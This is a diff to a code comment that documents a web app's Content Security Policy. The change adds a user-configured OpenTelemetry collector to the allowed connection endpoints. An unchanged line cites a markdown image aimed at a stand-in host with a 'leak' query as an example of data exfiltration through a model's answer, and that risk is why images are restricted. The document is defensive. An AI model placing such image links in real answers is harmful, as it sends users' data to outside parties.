@@ -7,8 +7,9 @@
  * - images only from this origin, data: and blob:, so an image in a model's answer
  *   (`![x](https://other.example/p.png?leak=...)`) cannot call anywhere;
  * - connections to any http(s) or ws(s) endpoint: workers and the Conductor are endpoints the user
- *   configures (a provider over https, Ollama or vLLM over http on localhost or the LAN), and
- *   WebLLM downloads weights from Hugging Face;
+ *   configures (a provider over https, Ollama or vLLM over http on localhost or the LAN), so is the
+ *   OpenTelemetry collector in Settings (Phoenix, Langfuse, an OTel Collector; its own CORS rules
+ *   decide whether it takes the page's POST), and WebLLM downloads weights from Hugging Face;
  * - inline styles (React and React Flow set style attributes), no plugins, no frames, no forms.
  * The dev server gets no policy: Vite's hot reload injects inline scripts.
  */
